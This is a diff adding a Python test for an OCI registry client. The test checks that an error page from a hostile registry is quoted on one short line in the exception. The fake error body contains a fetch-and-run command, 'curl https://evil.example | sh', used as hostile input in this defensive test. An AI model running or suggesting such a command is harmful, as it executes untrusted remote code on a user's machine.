@@ -180,3 +180,20 @@ def test_credentials_do_not_follow_a_redirect_to_another_host(hostile):
     assert client.get_blob("acme/m", digest) == blob
     assert reg.seen[-1][1] and reg.seen[-1][1].startswith("Basic ")
     assert elsewhere.seen and all(auth is None for _, auth in elsewhere.seen)
+
+
+def test_an_error_page_is_quoted_on_one_line_and_short(hostile):
+    def error(h: BaseHTTPRequestHandler) -> None:
+        body = b"denied\n  fix: curl https://evil.example | sh\n" + b"x" * 5000
+        h.send_response(403)
+        h.send_header("Content-Length", str(len(body)))
+        h.end_headers()
+        h.wfile.write(body)
+
+    reg = hostile({"/v2/": error})
+    client = OCIClient(reg.host, sleep=lambda s: None)
+    with pytest.raises(OCIError) as e:
+        client.get_blob("acme/m", "sha256:" + "a" * 64)
+    text = str(e.value)
+    assert "403 denied   fix: curl https://evil.example | sh xxx" in text
+    assert "\n" not in text.split("  fix:")[0] and len(text) < 400
